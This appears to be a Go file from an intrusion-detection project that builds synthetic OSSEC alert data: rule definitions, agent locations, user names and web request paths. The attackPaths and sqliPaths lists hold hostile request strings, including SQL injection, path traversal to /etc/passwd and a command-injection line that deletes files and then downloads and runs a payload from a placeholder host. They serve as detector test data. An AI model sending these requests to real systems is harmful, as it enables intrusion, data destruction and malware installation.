package sample

import (
	"net/netip"
	"strings"

	"github.com/rampart-ids/rampart/internal/ossec"
)

// rule indexes the rule table; the alerts carry the OSSEC rule ids.
type rule uint8

const (
	r5710 rule = iota
	r5716
	r5712
	r5720
	r5706
	r5701
	r5715
	r5503
	r5551
	r5501
	r5502
	r5402
	r31101
	r31103
	r31104
	r31106
	r31151
	r3302
	r3306
	r3351
	r3357
	r9702
	r9750
	r550
	r553
	r554
	r510
	r591
	r592
	r502
	r503
	r504
	r1002
	nRules
)

type ruleDef struct {
	id     int
	level  int
	desc   string
	groups []string
}

func def(id, level int, desc, groups string) ruleDef {
	return ruleDef{id: id, level: level, desc: desc, groups: strings.Split(strings.TrimSuffix(groups, ","), ",")}
}

// ruleTable follows the stock OSSEC rules (sshd_rules.xml, pam_rules.xml,
// web_rules.xml, postfix_rules.xml, dovecot_rules.xml, ossec_rules.xml,
// syslog_rules.xml): ids, levels, descriptions and groups as an operator sees
// them in alerts.log.
func ruleTable() [nRules]ruleDef {
	return [nRules]ruleDef{
		r5710:  def(5710, 5, "Attempt to login using a non-existent user", "syslog,sshd,invalid_login,authentication_failed,"),
		r5716:  def(5716, 5, "SSHD authentication failed.", "syslog,sshd,authentication_failed,"),
		r5712:  def(5712, 10, "SSHD brute force trying to get access to the system.", "syslog,sshd,authentication_failures,"),
		r5720:  def(5720, 10, "Multiple SSHD authentication failures.", "syslog,sshd,authentication_failures,"),
		r5706:  def(5706, 6, "SSH insecure connection attempt (scan).", "syslog,sshd,recon,"),
		r5701:  def(5701, 8, "Possible attack on the ssh server (or version gathering).", "syslog,sshd,recon,"),
		r5715:  def(5715, 3, "SSHD authentication success.", "syslog,sshd,authentication_success,"),
		r5503:  def(5503, 5, "User login failed.", "syslog,pam,authentication_failed,"),
		r5551:  def(5551, 10, "Multiple failed logins in a small period of time.", "syslog,pam,authentication_failures,"),
		r5501:  def(5501, 3, "Login session opened.", "syslog,pam,authentication_success,"),
		r5502:  def(5502, 3, "Login session closed.", "syslog,pam,"),
		r5402:  def(5402, 3, "Successful sudo to ROOT executed", "syslog,sudo,"),
		r31101: def(31101, 5, "Web server 400 error code.", "web,accesslog,"),
		r31103: def(31103, 6, "SQL injection attempt.", "web,accesslog,attack,sql_injection,"),
		r31104: def(31104, 6, "Common web attack.", "web,accesslog,attack,"),
		r31106: def(31106, 6, "A web attack returned code 200 (success).", "web,accesslog,attack,"),
		r31151: def(31151, 10, "Multiple web server 400 error codes from same source ip.", "web,accesslog,web_scan,recon,"),
		r3302:  def(3302, 6, "Postfix: Rejected by access list (55x: Relay denied).", "syslog,postfix,spam,"),
		r3306:  def(3306, 6, "Postfix: IP Address black-listed by anti-spam (blocked).", "syslog,postfix,spam,"),
		r3351:  def(3351, 10, "Postfix: Multiple relaying attempts of spam.", "syslog,postfix,multiple_spam,"),
		r3357:  def(3357, 10, "Postfix: Multiple attempts to send e-mail from black-listed IP address (blocked).", "syslog,postfix,multiple_spam,"),
		r9702:  def(9702, 5, "Dovecot Authentication Failed.", "syslog,dovecot,authentication_failed,"),
		r9750:  def(9750, 10, "Dovecot Multiple Authentication Failures.", "syslog,dovecot,authentication_failures,"),
		r550:   def(550, 7, "Integrity checksum changed.", "ossec,syscheck,"),
		r553:   def(553, 7, "File deleted. Unable to retrieve checksum.", "ossec,syscheck,"),
		r554:   def(554, 7, "File added to the system.", "ossec,syscheck,"),
		r510:   def(510, 7, "Host-based anomaly detection event (rootcheck).", "ossec,rootcheck,"),
		r591:   def(591, 3, "Log file rotated.", "ossec,"),
		r592:   def(592, 8, "Log file size reduced.", "ossec,attacks,"),
		r502:   def(502, 3, "Ossec server started.", "ossec,"),
		r503:   def(503, 3, "Ossec agent started.", "ossec,"),
		r504:   def(504, 3, "Ossec agent disconnected.", "ossec,"),
		r1002:  def(1002, 2, "Unknown problem somewhere in the system.", "syslog,errors,"),
	}
}

// loc is one alert location with what the log lines need of it.
type loc struct {
	l ossec.Location
	// host is the syslog host name inside the log lines.
	host string
	// ip is the host's own address, used as "Dst IP" where a decoder
	// reports the local end of a connection.
	ip  string
	dst netip.Addr
	// port means this location's sshd lines yield "Src Port" (as if
	// decoded by a newer sshd decoder).
	port bool
	// lag is how many seconds the log line's time precedes the alert.
	lag int64
}

// The manager's name, and the agents: ~10 agents, one registered as "any",
// plus one agentless host checked over ssh.
const manager = "ossec-mgr"

type tables struct {
	rules [nRules]ruleDef
	locs  []loc
	// Location lists by kind of log, as indexes into locs.
	ssh, web, mail, syscheck, rootcheck, collector, ossecd, auth, syslog []int
	// agentSSH are the agents' sshd logs, whose blocks never escalate.
	agentSSH         []int
	mgrAuth, bastion int

	invalidUsers, realUsers, localUsers []string
	probePaths, sqliPaths, attackPaths  []string
	benignPaths, agents                 []string
	files, rootcheckMsgs                []string
	mailTo, helos                       []string
}

func newTables() *tables {
	t := &tables{rules: ruleTable()}
	add := func(raw, host, ip string, port bool) int {
		dst, _ := netip.ParseAddr(ip)
		l := loc{l: ossec.ParseLocation(raw), host: host, ip: ip, dst: dst, port: port}
		if l.l.Agent != "" && l.l.Manager == "" {
			l.lag = 1
		}
		t.locs = append(t.locs, l)
		return len(t.locs) - 1
	}
	agent := func(name, ip, path string) string { return "(" + name + ") " + ip + "->" + path }

	t.mgrAuth = add(manager+"->/var/log/auth.log", manager, "10.40.0.2", true)
	t.ssh = []int{t.mgrAuth, t.mgrAuth, t.mgrAuth,
		add(agent("fe01", "10.40.0.11", "/var/log/auth.log"), "fe01", "10.40.0.11", false),
		add(agent("fe02", "10.40.0.12", "/var/log/auth.log"), "fe02", "10.40.0.12", true),
		add(agent("fe03", "10.40.0.13", "/var/log/auth.log"), "fe03", "10.40.0.13", false),
		add(agent("web5", "10.40.0.15", "/var/log/auth.log"), "web5", "10.40.0.15", false),
		add(agent("db1", "10.40.0.21", "/var/log/secure"), "db1", "10.40.0.21", true),
		add(agent("db2", "10.40.0.22", "/var/log/secure"), "db2", "10.40.0.22", false),
		add(agent("ci1", "192.168.0.31", "/var/log/auth.log"), "ci1", "192.168.0.31", false),
		add(agent("backup1", "192.168.0.40", "/var/log/auth.log"), "backup1", "192.168.0.40", true),
		add(agent("vpn1", "any", "/var/log/auth.log"), "vpn1", "", false),
		add(agent("bastion", "10.40.0.8", "/var/log/auth.log"), "bastion", "10.40.0.8", true),
	}
	t.bastion = t.ssh[len(t.ssh)-1]
	t.agentSSH = t.ssh[3:]
	t.web = []int{
		add(agent("fe01", "10.40.0.11", "/var/log/nginx/access.log"), "fe01", "10.40.0.11", false),
		add(agent("fe02", "10.40.0.12", "/var/log/nginx/access.log"), "fe02", "10.40.0.12", false),
		add(agent("fe03", "10.40.0.13", "/var/log/nginx/access.log"), "fe03", "10.40.0.13", false),
		add(agent("web5", "10.40.0.15", "/var/log/apache2/access.log"), "web5", "10.40.0.15", false),
	}
	t.mail = []int{add(agent("mail1", "10.40.0.14", "/var/log/mail.log"), "mail1", "10.40.0.14", false)}
	t.syscheck = []int{
		add(manager+"->syscheck", manager, "", false),
		add(agent("fe01", "10.40.0.11", "syscheck"), "fe01", "", false),
		add(agent("db1", "10.40.0.21", "syscheck"), "db1", "", false),
		add(manager+"->(ssh_integrity_check_linux) root@10.40.0.9->syscheck", manager, "", false),
	}
	t.rootcheck = []int{
		add(manager+"->rootcheck", manager, "", false),
		add(agent("fe02", "10.40.0.12", "rootcheck"), "fe02", "", false),
		add(agent("db2", "10.40.0.22", "rootcheck"), "db2", "", false),
	}
	t.collector = []int{
		add(manager+"->ossec-logcollector", manager, "", false),
		add(agent("fe01", "10.40.0.11", "ossec-logcollector"), "fe01", "", false),
		add(agent("mail1", "10.40.0.14", "ossec-logcollector"), "mail1", "", false),
	}
	t.ossecd = []int{add(manager+"->ossec-monitord", manager, "", false)}
	t.auth = []int{t.mgrAuth, t.ssh[7], t.ssh[12]}
	t.syslog = []int{
		add(manager+"->/var/log/syslog", manager, "", false),
		add(agent("fe02", "10.40.0.12", "/var/log/syslog"), "fe02", "", false),
	}
	t.agents = []string{"fe01->10.40.0.11", "fe02->10.40.0.12", "fe03->10.40.0.13", "web5->10.40.0.15",
		"mail1->10.40.0.14", "db1->10.40.0.21", "db2->10.40.0.22", "ci1->192.168.0.31",
		"backup1->192.168.0.40", "vpn1->any", "bastion->10.40.0.8"}

	// "o'neil" and the Cyrillic name exercise quoting and ossec-dbd's
	// sanitising; bots do try such names.
	t.invalidUsers = []string{"admin", "test", "user", "oracle", "postgres", "ubuntu", "git", "ftpuser",
		"pi", "support", "guest", "hadoop", "minecraft", "steam", "deploy", "ansible", "jenkins",
		"elastic", "mysql", "nagios", "tomcat", "www", "usuario", "o'neil", "админ", "1234"}
	t.realUsers = []string{"root", "root", "root", "root", "ubuntu", "debian", "admin"}
	t.localUsers = []string{"deploy", "jürgen", "backup", "ansible", "root", "dhenry"}
	t.probePaths = []string{"/wp-login.php", "/.env", "/phpmyadmin/index.php", "/admin/config.php",
		"/.git/config", "/cgi-bin/luci", "/boaform/admin/formLogin", "/HNAP1/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/actuator/health", "/owa/auth/logon.aspx", "/xmlrpc.php", "/solr/admin/info/system", "/.aws/credentials"}
	t.sqliPaths = []string{"/index.php?id=1%27%20UNION%20SELECT%201,2,3--", "/products.php?cat=2+or+1=1--",
		"/search?q=%27%20OR%20%271%27=%271", "/item.php?id=-1+union+select+user(),2"}
	t.attackPaths = []string{"/index.php?page=../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
		"/shell?cd+/tmp;rm+-rf+*;wget+http://malware.invalid/jaws;sh+/tmp/jaws", "/?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
		"/cgi-bin/test.cgi?<script>alert(1)</script>"}
	t.benignPaths = []string{"/favicon.ico", "/apple-touch-icon.png", "/nginx_status", "/server-status", "/robots.txt"}
	t.files = []string{"/etc/passwd", "/etc/shadow", "/etc/group", "/etc/ssh/sshd_config", "/etc/resolv.conf",
		"/etc/nginx/nginx.conf", "/etc/ld.so.cache", "/usr/sbin/sshd", "/etc/crontab", "/usr/bin/sudo",
		"/etc/cron.d/sauvegarde-données", "/etc/sudoers.d/jürgen"}
	t.rootcheckMsgs = []string{
		"Trojaned version of file '/bin/diff' detected. Signature used: 'bash|^/bin/sh|file\\.h|proc\\.h|/dev/[^n]|^/bin/.*sh' (Generic).",
		"File '/dev/.udev/rules.d/99-root.rules' present on /dev. Possible hidden file.",
		"Process '4312' hidden from /proc. Possible kernel level rootkit.",
		"System Audit: SSH Hardening - 3: Root can log in. File: /etc/ssh/sshd_config. Reference: 3 .",
		"Files hidden inside directory '/var/tmp'. Link count does not match number of files (5,4).",
	}
	t.mailTo = []string{"info@example.org", "admin@example.org", "contact@example.org", "sales@example.org"}
	t.helos = []string{"User", "WIN-3F7G2KQ1L0B", "ylmf-pc", "localhost", "mail.example.net"}
	return t
}
